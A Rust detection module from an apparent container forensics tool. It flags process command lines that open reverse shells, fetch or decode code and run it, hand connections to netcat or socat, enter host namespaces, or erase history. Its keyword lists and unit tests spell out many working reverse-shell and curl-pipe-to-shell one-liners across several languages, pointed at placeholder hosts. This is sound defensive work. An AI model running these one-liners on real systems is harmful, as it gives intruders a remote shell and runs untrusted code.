//! Command lines that give themselves away: whole programs on one line that fetch, decode and run, or that connect and run.
//!
//! What is judged is what a line does, in whatever language: it opens a connection and starts a program, it decodes
//! something and runs it, it fetches something and runs it.

use ckpt_model::{Strings, Task, escape, fd_type};
use memchr::memmem::{find, find_iter};

use super::finding::{Confidence, Finding, Rule, Seen, Severity};
use super::programs::{is_interpreter, is_multi_call, is_shell, program, stem};
use super::subject::{Subject, base_name, named, shortened};
use super::talk;

pub(super) static RULES: &[&Rule] = &[&SUSPICIOUS];

static SUSPICIOUS: Rule = Rule {
    id: "suspicious-command",
    title: "A process was started with a command line that intruders use",
    why: "One-liners that open a connection and hand it a shell, or that fetch or decode a program and run it, are how a foothold becomes a shell.",
    wrong: "Installers are fetched and piped to a shell, too; administrators use netcat and socat to test.",
    check: "ckpt-inspect tree --pid PID EVIDENCE; ckpt-inspect files --pid PID EVIDENCE",
    attack: &["T1059", "T1105", "T1140"],
};

/// Bytes of a command line that are looked at.
const LONGEST: usize = 64 << 10;

/// Words of one command line that are looked at.
const MOST_WORDS: usize = 64;

/// Commands of one line that are held against each other.
const MOST_COMMANDS: usize = 64;

/// Files that one line fetches that are looked for in the rest of it.
const MOST_FETCHED: usize = 16;

/// Files of shells that are connections.
const CONNECTIONS: [&[u8]; 2] = [b"/dev/tcp/", b"/dev/udp/"];

/// What opens a connection.
const CONNECTS: [&[u8]; 25] = [
    b"/inet/tcp/",
    b"/inet/udp/",
    b"socket.socket",
    b"socket.create_connection",
    b"import socket",
    b"IO::Socket",
    b"use Socket",
    b"TCPSocket",
    b"TCPServer",
    b"fsockopen",
    b"stream_socket_client",
    b"net.connect",
    b"net.Socket",
    b"net.createConnection",
    b"java.net.Socket",
    b"socket.tcp",
    b"Socket.tcp",
    b"-MSocket",
    b"('net')",
    b"(\"net\")",
    b"socket_create",
    b"socket\").connect",
    b"socket').connect",
    b"ztcp",
    b"TcpClient",
];

/// What runs a program, or hands it a connection.
const RUNS: [&[u8]; 30] = [
    b"/bin/sh",
    b"/bin/bash",
    b"/bin/dash",
    b"/bin/ash",
    b"/bin/zsh",
    b"bash -i",
    b"sh -i",
    b"dup2",
    b"pty.spawn",
    b"subprocess",
    b"os.system",
    b"os.popen",
    b"os.exec",
    b"exec(",
    b"exec \"",
    b"exec '",
    b"exec{",
    b"system(",
    b"spawn(",
    b"popen(",
    b"shell_exec",
    b"passthru",
    b"proc_open",
    b"child_process",
    b"io.popen",
    b"ProcessBuilder",
    b"getRuntime",
    b"|getline",
    b"| getline",
    b"fdopen(",
];

/// Programs that fetch something.
const FETCHERS: [&[u8]; 7] =
    [b"curl", b"wget", b"fetch", b"lwp-download", b"aria2c", b"tftp", b"ftpget"];

/// What fetches something, in whatever language.
const FETCHES: [&[u8]; 11] = [
    b"curl ",
    b"wget ",
    b"fetch ",
    b"lwp-download ",
    b"aria2c ",
    b"tftp ",
    b"urlopen",
    b"requests.get",
    b"fetch(",
    b"LWP::Simple",
    b"file_get_contents(\"http",
];

/// Programs that make something readable again.
const DECODERS: [&[u8]; 7] = [
    b"base64 -d",
    b"base64 --decode",
    b"base64 -D",
    b"openssl enc -d",
    b"openssl base64 -d",
    b"xxd -r",
    b"gunzip -c",
];

/// Functions that do, in whatever language.
const DECODES: [&[u8]; 13] = [
    b"b64decode",
    b"base64_decode",
    b"decode_base64",
    b"Base64.decode",
    b"atob(",
    b"gzinflate",
    b"unhexlify",
    b"bytes.fromhex",
    b"Buffer.from(",
    b"zlib.decompress",
    b"marshal.loads",
    b"codecs.decode",
    b"unpack",
];

/// Bytes between `eval` and what it evaluates.
const NEAR: usize = 64;

/// Programs into which a line pipes what it wants to be run.
const INTO: [&[u8]; 14] = [
    b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"python", b"python3", b"perl", b"ruby",
    b"php", b"node", b"sudo", b"/bin/sh",
];

/// Words before a program that are no program themselves.
const BEFORE: [&[u8]; 12] = [
    b"sudo", b"env", b"nohup", b"setsid", b"exec", b"then", b"do", b"else", b"{", b"(", b"!",
    b"time",
];

/// What a command line does, how much that matters, and how sure it is.
type Verdict = (&'static str, Severity, Confidence);

pub(super) fn look(subject: &Subject<'_>, findings: &mut Vec<Finding>) {
    for task in &subject.tasks {
        let Some(argv) = &task.argv else { continue };
        let judged = verdict(task).or_else(|| talks(subject, task, argv));
        let Some((what, severity, confidence)) = judged else { continue };
        // What the container was started with is its owner's doing, as a rule.
        let asked_for = is_asked_for(subject, task);
        let severity = if asked_for { severity.min(Severity::Medium) } else { severity };
        let title = format!("{} {what}", named(task));
        let mut finding = Finding::new(&SUSPICIOUS, severity, confidence, title).of(task.pid);
        if let Some(exe) = subject.executable(task) {
            finding = finding.path(exe.path.clone());
        }
        let shown = format!("arguments: {}", shortened(&escape(&joined(argv.iter()))));
        finding = finding.seen(Seen::new(shown).member(subject.mm(task)));
        if asked_for {
            finding = finding.seen(Seen::new("the container was started with this command"));
        }
        finding.evidence.extend(talk::seen(subject, task));
        findings.push(finding);
    }
}

/// What the command line of a task does, by its words alone.
pub(super) fn verdict(task: &Task) -> Option<Verdict> {
    let argv = task.argv.as_ref()?;
    // The name of the program tells nothing of what it is told to do.
    judge(task, argv, &joined(argv.iter().skip(1)))
}

/// Whether a task is the container's own program: its first process, or what that was asked to start.
pub(super) fn is_own(subject: &Subject<'_>, task: &Task) -> bool {
    subject.first().is_some_and(|first| first.pid == task.pid) || is_asked_for(subject, task)
}

/// Whether the container was started with the command that a task runs, or with one that ends in it: an entry point or
/// an init starts what follows it.
pub(super) fn is_asked_for(subject: &Subject<'_>, task: &Task) -> bool {
    let command = &subject.checkpoint.container().command;
    // An interpreter may stand before it; what is longer cannot be its end.
    let most = command.len().saturating_add(2);
    let argv: Vec<&[u8]> = task.argv.iter().flat_map(Strings::iter).take(most).collect();
    is_end_of(&argv, command)
}

/// Whether arguments are a whole command, or at least two words at its end. A script is known by its path: the kernel puts
/// the interpreter before it.
fn is_end_of(argv: &[&[u8]], command: &[String]) -> bool {
    let ends_in = |argv: &[&[u8]], least: usize| {
        let Some(before) = command.len().checked_sub(argv.len()) else { return false };
        let end = command.iter().skip(before).map(String::as_bytes);
        !argv.is_empty() && (before == 0 || argv.len() >= least) && end.eq(argv.iter().copied())
    };
    let script = argv.get(1..).filter(|rest| rest.first().is_some_and(|word| word.contains(&b'/')));
    ends_in(argv, 2) || script.is_some_and(|script| ends_in(script, 1))
}

/// What says less by itself than together with a connection: a program on the command line of an interpreter or on its
/// standard input, or a client that makes tunnels.
fn talks(subject: &Subject<'_>, task: &Task, argv: &Strings) -> Option<Verdict> {
    let held = subject.sockets_of(task.pid);
    if !held.iter().any(|(_, socket)| talk::is_conversation(socket)) {
        return None;
    }
    let name = program(task);
    if makes_tunnels(name, argv) && !is_asked_for(subject, task) {
        let what = "makes a tunnel through its connection";
        return Some((what, Severity::Medium, Confidence::Medium));
    }
    if !is_interpreter(name) {
        return None;
    }
    let mut options = argv.iter().skip(1).take(3);
    if options.any(|word| matches!(word, b"-c" | b"-e" | b"-r" | b"-E" | b"--eval" | b"-ne")) {
        let what = "runs a program that is on its command line, and talks over the network";
        return Some((what, Severity::Medium, Confidence::Medium));
    }
    let fed = reads_program(argv) && !on_terminal(subject, task);
    fed.then(|| {
        let away = talk::calls_out(subject, task) && !is_asked_for(subject, task);
        let severity = if away { Severity::High } else { Severity::Medium };
        let what =
            "runs a program that came through its standard input, and talks over the network";
        (what, severity, Confidence::Medium)
    })
}

/// Whether an interpreter reads its program from standard input: it calls itself by the language, and has neither a
/// script nor a module nor a program among its arguments.
fn reads_program(argv: &Strings) -> bool {
    let called = argv.first().is_some_and(|first| {
        let name = base_name(first);
        const READERS: [&[u8]; 8] =
            [b"python", b"pypy", b"perl", b"ruby", b"node", b"nodejs", b"php", b"lua"];
        READERS.contains(&stem(name))
    });
    let mut rest = argv.iter().skip(1).take(MOST_WORDS).filter(|word| !word.is_empty());
    called && rest.all(|word| matches!(word, b"-" | b"-u" | b"-B" | b"-E" | b"-s" | b"-q" | b"-O"))
}

/// Whether the standard input of a task is a terminal.
fn on_terminal(subject: &Subject<'_>, task: &Task) -> bool {
    let input = subject.checkpoint.descriptors().get(task.pid, 0);
    input.is_some_and(|input| input.fd_type == fd_type::TTY)
}

/// Whether it is an ssh that was told to forward: `-R`, `-L`, `-D`, `-w`, alone or in a group such as `-fNR`.
fn makes_tunnels(name: &[u8], argv: &Strings) -> bool {
    /// Options of ssh that need no value, so that others may follow in one word.
    const BARE: &[u8] = b"46AaCfGgKkMNnqsTtVvXxYy";
    if !matches!(name, b"ssh" | b"dbclient" | b"autossh") {
        return false;
    }
    let (mut value, mut operands) = (false, 0_usize);
    for word in argv.iter().skip(1).take(MOST_WORDS) {
        let group = word.strip_prefix(b"-").filter(|_| !value);
        let at = group.and_then(|group| group.iter().position(|byte| !BARE.contains(byte)));
        let option = group.zip(at).and_then(|(group, at)| group.get(at));
        if matches!(option, Some(b'R' | b'L' | b'D' | b'w')) {
            return true;
        }
        // What follows the host is a command with options of its own.
        operands = operands.saturating_add(usize::from(group.is_none() && !value));
        if operands > 1 {
            return false;
        }
        let last = group.zip(at).is_some_and(|(group, at)| group.len() == at.saturating_add(1));
        value = option.is_some() && last;
    }
    false
}

/// Arguments as one line, of bounded length.
fn joined<'w>(words: impl Iterator<Item = &'w [u8]>) -> Vec<u8> {
    let mut line = Vec::new();
    for (number, word) in words.enumerate() {
        if line.len() >= LONGEST {
            break;
        }
        if number > 0 {
            line.push(b' ');
        }
        line.extend_from_slice(word.get(..word.len().min(LONGEST)).unwrap_or(word));
    }
    let end = line.iter().rposition(|byte| *byte != b' ').map_or(0, |at| at.saturating_add(1));
    line.truncate(end);
    line
}

fn has(line: &[u8], any: &[&[u8]]) -> bool {
    any.iter().any(|word| find(line, word).is_some())
}

/// Whether a function or command of that name is called: it is no part of a longer word.
fn calls(line: &[u8], name: &[u8]) -> bool {
    find_iter(line, name).any(|at| {
        let before = at.checked_sub(1).and_then(|before| line.get(before));
        let part = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-');
        let behind = line.get(at.saturating_add(name.len()));
        !before.is_some_and(part) && !behind.is_some_and(part)
    })
}

fn judge(task: &Task, argv: &Strings, line: &[u8]) -> Option<Verdict> {
    let name = program(task);
    let shell = is_shell(name);
    let text = shell || is_interpreter(name) || is_multi_call(name);
    let connection = has(line, &CONNECTIONS);
    if text && (connects_and_runs(shell, line) || (connection && joins(line))) {
        return Some((
            "connects to somebody and hands over a shell",
            Severity::High,
            Confidence::High,
        ));
    }
    if hands_over(argv, line) {
        return Some(("hands a connection to a program", Severity::High, Confidence::High));
    }
    if text && decodes_and_runs(line) {
        return Some(("decodes something and runs it", Severity::High, Confidence::Medium));
    }
    let fetches = has(line, &FETCHES);
    if text && fetches && (pipes_into(line) || fetches_and_runs(shell, line)) {
        return Some(("fetches something and runs it", Severity::High, Confidence::Medium));
    }
    if text && find(line, b"pty.spawn").is_some() {
        return Some(("makes itself a terminal", Severity::High, Confidence::Medium));
    }
    if enters_the_host(argv, line) {
        return Some(("enters the namespaces of the host", Severity::High, Confidence::Medium));
    }
    let erases = [
        &b"history -c"[..],
        b"unset HISTFILE",
        b"HISTFILE=/dev/null",
        b"HISTSIZE=0",
        b"rm -rf /var/log",
        b"rm -f /var/log",
    ];
    if text && has(line, &erases) {
        return Some(("removes traces", Severity::Medium, Confidence::Medium));
    }
    // How scripts wait for a service, or ask for its health.
    if shell && connection {
        return Some(("opens a connection by itself", Severity::Medium, Confidence::Medium));
    }
    None
}

/// Whether a program on the line opens a connection and runs something. A line of a shell has such programs between
/// quotes: what stands beside them is another program's doing.
fn connects_and_runs(shell: bool, line: &[u8]) -> bool {
    let does = |text: &[u8]| has(text, &CONNECTS) && has(text, &RUNS);
    if !shell {
        return does(line);
    }
    has(line, &CONNECTS) && programs(line).iter().any(|text| does(text))
}

/// The texts that a line of a shell has between quotes, and at last what stands outside of them.
fn programs(line: &[u8]) -> Vec<Vec<u8>> {
    let mut texts = Vec::new();
    let (mut outside, mut inside) = (Vec::new(), Vec::new());
    let mut quote = None;
    let mut bytes = line.iter().copied();
    while let Some(byte) = bytes.next() {
        match quote {
            None if matches!(byte, b'"' | b'\'') => {
                quote = Some(byte);
                outside.push(b' ');
            }
            Some(end) if byte == end => {
                quote = None;
                texts.push(std::mem::take(&mut inside));
            }
            Some(b'"') if byte == b'\\' => inside.extend(bytes.next()),
            Some(_) => inside.push(byte),
            None => outside.push(byte),
        }
    }
    texts.extend([inside, outside]);
    texts
}

/// Whether what comes over a connection that a shell opened is run, or all that it says goes there. To wait until
/// somebody listens, or to ask a service something, takes neither.
fn joins(line: &[u8]) -> bool {
    let number = |redirection: &[u8], least: u8| {
        find_iter(line, redirection).any(|at| {
            let behind = line.get(at.saturating_add(redirection.len())..).unwrap_or_default();
            let digits = behind.iter().take_while(|byte| byte.is_ascii_digit()).count();
            digits > 1 || behind.first().is_some_and(|byte| digits == 1 && *byte >= least)
        })
    };
    let own = [
        &b"0>&1"[..],
        b">&/dev/",
        b">& /dev/",
        b"&>/dev/tcp",
        b"&> /dev/tcp",
        b"exec 0<",
        b"exec </dev/",
        b"exec < /dev/",
        b"sh -i",
        b"sh <",
        b"sh 0<",
    ];
    let runs_lines = calls(line, b"read") && (calls(line, b"eval") || has(line, &[b"do $"]));
    has(line, &own)
        || number(b"0<&", b'1')
        || number(b"2>&", b'3')
        || runs_lines
        || pipes_into(line)
}

/// Whether what a program decodes goes into an interpreter: through a pipe, or as what `eval` evaluates.
fn decodes_and_runs(line: &[u8]) -> bool {
    let places = DECODERS.iter().filter_map(|decoder| find(line, decoder));
    let piped = places.into_iter().any(|at| {
        let behind = line.get(at..).unwrap_or_default();
        let before = line.get(at.saturating_sub(NEAR)..at).unwrap_or_default();
        pipes_into(behind) || find(before, b"eval").is_some()
    });
    piped || (has(line, &DECODES) && evaluates(line))
}

/// Whether a program runs text as a program, or as a command.
fn evaluates(line: &[u8]) -> bool {
    // Regular expressions have a method of that name.
    let method = |at: usize| at.checked_sub(1).and_then(|at| line.get(at)) == Some(&b'.');
    let module = has(line, &[b"child_process"]);
    calls(line, b"eval")
        || has(line, &[b"exec \"", b"system("])
        || find_iter(line, b"exec(").any(|at| module || !method(at))
}

/// Whether a line pipes something into what runs it.
fn pipes_into(line: &[u8]) -> bool {
    let mut before: Option<&[u8]> = None;
    line.split(|byte| *byte == b'|').any(|part| {
        // Nothing stands within `||`, behind which is an alternative.
        let piped = before.is_some_and(|before| !before.is_empty());
        before = Some(part);
        let part = part.strip_prefix(b"&").unwrap_or(part);
        let mut words =
            part.split(|byte| byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\''));
        piped && runs_text(words.find(|word| !word.is_empty()).unwrap_or_default())
    })
}

/// Whether a word is a program that runs what it is given.
fn runs_text(word: &[u8]) -> bool {
    let name = base_name(word);
    INTO.contains(&name) || is_shell(name)
}

/// Whether what was fetched is run without a pipe: as the text of a command, by what evaluates it, or as the file that it
/// was written to.
fn fetches_and_runs(shell: bool, line: &[u8]) -> bool {
    if !shell {
        return evaluates(line);
    }
    let fetching =
        |text: &[u8]| has(text, &[b"urlopen", b"requests.get", b"LWP::Simple", b"(\"http"]);
    substitutes(line)
        || programs(line).iter().any(|text| fetching(text) && evaluates(text))
        || runs_what_it_fetched(line)
}

/// `eval "$(curl …)"`, `sh -c "$(wget …)"`, `bash <(curl …)`.
fn substitutes(line: &[u8]) -> bool {
    let openings: [&[u8]; 3] = [b"$(", b"<(", b"`"];
    openings.iter().any(|opening| {
        find_iter(line, opening).take(MOST_COMMANDS).any(|at| {
            let behind = line.get(at.saturating_add(opening.len())..).unwrap_or_default();
            let first = words(behind).next().unwrap_or_default();
            let before = line.get(at.saturating_sub(NEAR)..at).unwrap_or_default();
            let last = words(before).last().unwrap_or_default();
            FETCHERS.contains(&base_name(first))
                && (matches!(last, b"eval" | b"-c" | b"." | b"source") || runs_text(last))
        })
    })
}

fn words(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    let cut = |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'(' | b')');
    text.split(cut).filter(|word| !word.is_empty())
}

/// Whether one command of a line writes a file that comes from somewhere else, and a later one runs it.
fn runs_what_it_fetched(line: &[u8]) -> bool {
    let commands = line.split(|byte| matches!(byte, b';' | b'&' | b'|' | b'\n'));
    let mut fetched: Vec<&[u8]> = Vec::new();
    for command in commands.take(MOST_COMMANDS) {
        // What a shell is told to run begins with the options of the shell.
        let all =
            || words(command).skip_while(|word| BEFORE.contains(word) || word.starts_with(b"-"));
        let program = all().next().unwrap_or_default();
        let called = usize::from(is_multi_call(base_name(program)));
        let program = all().nth(called).unwrap_or(program);
        let rest = || all().skip(called.saturating_add(1)).take(MOST_WORDS);
        if FETCHERS.contains(&base_name(program)) {
            let room = MOST_FETCHED.saturating_sub(fetched.len());
            fetched.extend(outputs(rest()).into_iter().take(room));
            continue;
        }
        let same = |word: &[u8]| {
            let name = base_name(word);
            fetched.iter().any(|file| base_name(file) == name)
        };
        let run = same(program)
            || ((matches!(program, b"." | b"source") || runs_text(program)) && rest().any(same));
        if run {
            return true;
        }
    }
    false
}

/// The files that a program which fetches is told to write: behind an option, behind `>`, or called as at the other end.
fn outputs<'w>(words: impl Iterator<Item = &'w [u8]>) -> Vec<&'w [u8]> {
    let long: [&[u8]; 5] = [b"--output-document=", b"--output=", b"-o", b"-O", b">"];
    let mut files = Vec::new();
    let mut value = false;
    for word in words {
        let group = word.starts_with(b"-") && !word.starts_with(b"--");
        let of_next = matches!(word, b"--output" | b"--output-document" | b">")
            || (group && matches!(word.last(), Some(b'o' | b'O')));
        let joined = long.iter().find_map(|start| word.strip_prefix(*start));
        match joined {
            _ if value => files.push(word),
            _ if of_next => {}
            Some(file) => files.push(file),
            None if !word.starts_with(b"-") && word.contains(&b'/') => files.push(word),
            None => {}
        }
        value = of_next && !value;
    }
    files.retain(|file| !base_name(file).is_empty() && *file != b"-");
    files
}

/// `nc -e`, `ncat --exec`, `socat … EXEC:`, `mkfifo … | nc`, `telnet | sh | telnet`, `openssl s_client | sh`.
fn hands_over(argv: &Strings, line: &[u8]) -> bool {
    let words: Vec<&[u8]> = argv.iter().take(MOST_WORDS).collect();
    let called =
        |names: &[&[u8]]| words.iter().take(2).any(|word| names.contains(&base_name(word)));
    let netcat: [&[u8]; 5] = [b"nc", b"ncat", b"netcat", b"nc.traditional", b"nc.openbsd"];
    if called(&netcat) && words.iter().skip(1).any(|word| executes(word)) {
        return true;
    }
    let programs: [&[u8]; 5] = [b"exec:", b"EXEC:", b"system:", b"SYSTEM:", b"SHELL:"];
    if called(&[b"socat"]) && has(line, &programs) {
        return true;
    }
    let netcats: [&[u8]; 8] = [
        b"| nc ",
        b"|nc ",
        b"| ncat ",
        b"|ncat ",
        b"|telnet ",
        b"| telnet ",
        b"openssl s_client",
        b"nc -e",
    ];
    let fifo = find(line, b"mkfifo").is_some() || find(line, b"mknod").is_some();
    let shell = has(line, &[b"sh -i", b"/bin/sh", b"/bin/bash", b"bash -i"]);
    has(line, &netcats) && shell && (fifo || pipes_into(line) || find(line, b"nc -e").is_some())
}

/// Whether a word is the option of a netcat that runs a program: `-e`, `-c`, a group that ends in one of them, `--exec`,
/// `--sh-exec`.
fn executes(word: &[u8]) -> bool {
    let long = word.starts_with(b"--exec") || word.starts_with(b"--sh-exec");
    let group = word.strip_prefix(b"-").is_some_and(|group| {
        let letters = group.iter().all(u8::is_ascii_lowercase);
        letters && matches!(group.last(), Some(b'e' | b'c'))
    });
    long || group
}

/// `nsenter` to the first process, or a root of the host.
fn enters_the_host(argv: &Strings, line: &[u8]) -> bool {
    let cut = |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b';');
    let in_line = || line.split(cut).filter(|word| !word.is_empty());
    let is_nsenter = |word: &[u8]| base_name(word) == b"nsenter";
    if !argv.first().is_some_and(is_nsenter) && !in_line().any(is_nsenter) {
        return false;
    }
    let mut value = false;
    in_line().any(|word| {
        let first = matches!(word, b"-t1" | b"--target=1")
            || find(word, b"/proc/1/ns/").is_some()
            || (value && word == b"1");
        value = matches!(word, b"-t" | b"--target");
        first
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn verdict(exe: &str, argv: &[&str]) -> Option<&'static str> {
        let mut task = Task::default();
        task.comm = Some(ckpt_model::Text::from(exe));
        task.argv = Some(Strings(argv.join("\0").into_bytes()));
        super::verdict(&task).map(|(what, ..)| what)
    }

    fn severity(exe: &str, argv: &[&str]) -> Option<Severity> {
        let mut task = Task::default();
        task.comm = Some(ckpt_model::Text::from(exe));
        task.argv = Some(Strings(argv.join("\0").into_bytes()));
        super::verdict(&task).map(|(_, severity, _)| severity)
    }

    #[test]
    fn one_liners_of_many_languages() {
        for (exe, argv) in [
            ("bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"][..]),
            (
                "python3",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")",
                ],
            ),
            (
                "perl",
                &["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");"],
            ),
            (
                "ruby",
                &[
                    "ruby",
                    "-rsocket",
                    "-e",
                    "f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)",
                ],
            ),
            ("php8.2", &["php", "-r", "$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3\");"]),
            (
                "node",
                &[
                    "node",
                    "-e",
                    "require('net').connect; net.connect(1,'h');require('child_process').spawn('sh')",
                ],
            ),
            (
                "mawk",
                &["awk", "BEGIN{s=\"/inet/tcp/0/h/1\";while(1){s|&getline c;c|getline;system(c)}}"],
            ),
            ("nc", &["nc", "-e", "/bin/sh", "h", "1"]),
            ("busybox", &["busybox", "nc", "h", "1", "-e", "sh"]),
            ("socat", &["socat", "TCP:h:1", "EXEC:/bin/sh,pty"]),
            ("sh", &["sh", "-c", "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h 1 >/tmp/f"]),
            ("sh", &["sh", "-c", "echo aWQ= | base64 -d | sh"]),
            ("sh", &["sh", "-c", "curl -fsSL http://h/x | bash"]),
            ("nsenter", &["nsenter", "-t", "1", "-m", "sh"]),
        ] {
            assert!(verdict(exe, argv).is_some(), "{argv:?}");
        }
    }

    #[test]
    fn lines_of_shells() {
        let of = |line: &str| severity("dash", &["/bin/sh", "-c", line]);
        for high in [
            "bash -i >& /dev/tcp/h/1 0>&1",
            "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "exec 5<>/dev/tcp/h/1; while read -u5 c; do eval \"$c\" >&5; done",
            "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196",
            "cat </dev/tcp/h/1 | bash",
            "sh </dev/tcp/h/1",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'",
            "python3 <<E\nimport socket,pty\ns=socket.socket();pty.spawn('x')\nE",
            "wget h/x -O /tmp/x;chmod +x /tmp/x;/tmp/x",
            "curl -o /tmp/x http://h/x && sh /tmp/x",
            "curl -fsSLo x http://h/x && chmod 755 x && ./x",
            "cd /tmp; wget http://h/p.py; python3 p.py",
            "curl -s http://h/x >/tmp/.y; . /tmp/.y",
            "curl -s http://h/x |& bash",
            "eval \"$(curl -fsSL http://h/x)\"",
            "bash <(wget -qO- http://h/x)",
            "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://h\").read())'",
            "nsenter -m -u -i -n -p -t 1",
        ] {
            assert_eq!(of(high), Some(Severity::High), "{high}");
        }
        for medium in [
            "until(: >/dev/tcp/db/1);do sleep 1;done",
            "(echo > /dev/tcp/db/5432) >/dev/null 2>&1",
            "until /bin/bash -c '</dev/tcp/db/5432'; do sleep 1; done; exec /bin/bash /app/run",
            "exec 3<>/dev/tcp/localhost/9000; printf 'GET /health' >&3; cat <&3 | grep -q UP",
        ] {
            assert_eq!(of(medium), Some(Severity::Medium), "{medium}");
        }
        for quiet in [
            "until python3 -c \"import socket; socket.create_connection(('db',1))\"; do sleep 1; done; exec \"$@\"",
            "python3 -c \"import socket\" && exec /bin/bash /app/run.sh",
            "curl -fsS http://localhost/health || exit 1",
            "curl -fsS http://localhost/health || sh /app/restart.sh",
            "curl -fsSL http://h/app.tar -o app.tar && tar xf app.tar && exec /opt/app/run",
            "IP=$(curl -s http://h/ip) exec app --ip $IP",
            "git fetch origin; ./build.sh",
        ] {
            assert_eq!(of(quiet), None, "{quiet}");
        }
        assert_eq!(severity("nc", &["nc", "h", "4444", "-ve", "/bin/sh"]), Some(Severity::High));
        let nsenter = ["nsenter", "-m", "-u", "-i", "-n", "-p", "-t", "1"];
        assert_eq!(severity("nsenter", &nsenter), Some(Severity::High));
        assert_eq!(severity("nsenter", &["nsenter", "-t", "12", "-n"]), None);
    }

    #[test]
    fn what_programs_evaluate() {
        for (exe, code) in [
            ("python3", "exec(__import__('urllib.request').request.urlopen('http://h').read())"),
            ("python3", "import zlib;exec(zlib.decompress(b'x'))"),
            ("node", "eval(Buffer.from('eA==','base64').toString())"),
            ("node", "fetch('http://h').then(r=>r.text()).then(eval)"),
        ] {
            assert_eq!(severity(exe, &[exe, "-c", code]), Some(Severity::High), "{code}");
        }
        for code in ["/a/.exec(Buffer.from(x))", "import zlib; zlib.decompress(retrieval)"] {
            assert_eq!(severity("node", &["node", "-e", code]), None, "{code}");
        }
    }

    #[test]
    fn the_end_of_a_command() {
        let command = ["tini", "--", "sh", "-c", "x"].map(String::from);
        for (argv, asked_for) in [
            (&["sh", "-c", "x"][..], true),
            (&["tini", "--", "sh", "-c", "x"], true),
            (&["x"], false),
            (&["sh", "-c", "y"], false),
            (&["a", "tini", "--", "sh", "-c", "x"], false),
            (&["/bin/sh", "./x"], false),
            (&[], false),
        ] {
            let argv: Vec<&[u8]> = argv.iter().map(|word| word.as_bytes()).collect();
            assert_eq!(is_end_of(&argv, &command), asked_for, "{argv:?}");
        }
        assert!(is_end_of(&[b"app"], &["app".to_owned()]));
        let script = ["tini", "/run.sh"].map(String::from);
        assert!(is_end_of(&[b"/bin/sh", b"/run.sh"], &script));
        assert!(!is_end_of(&[b"/bin/sh", b"-c", b"/run.sh"], &script));
    }

    #[test]
    fn tunnels_of_ssh() {
        let makes =
            |line: &str| makes_tunnels(b"ssh", &Strings(line.replace(' ', "\0").into_bytes()));
        for line in
            ["ssh -fNR 80:h:80 a@b", "ssh -i k -D 1080 b", "ssh b -N -L1:h:1", "ssh -w 0:0 b"]
        {
            assert!(makes(line), "{line}");
        }
        for line in ["ssh b ls -L", "ssh -i -L b", "ssh -oX=-L b", "ssh -vv b"] {
            assert!(!makes(line), "{line}");
        }
    }

    #[test]
    fn honest_lines() {
        for (exe, argv) in [
            ("sh", &["sh", "-c", "while true; do echo tick; sleep 1; done"][..]),
            ("sh", &["sh", "-c", "base64 -d /cfg > /etc/app.conf; exec app"]),
            ("python3", &["python3", "-c", "import socket; print(socket.gethostname())"]),
            ("nc", &["nc", "-lk", "8080"]),
            (
                "sh",
                &[
                    "sh",
                    "-c",
                    "echo $C | base64 -d > /c; x | grep y; eval $(ssh-agent -s | cat); app",
                ],
            ),
            ("curl", &["curl", "-o", "/tmp/x", "http://h/x"]),
            ("bash", &["/bin/bash", "/entrypoint.sh", "redis-server"]),
            ("node", &["node", "server.js"]),
        ] {
            assert_eq!(verdict(exe, argv), None, "{argv:?}");
        }
    }
}
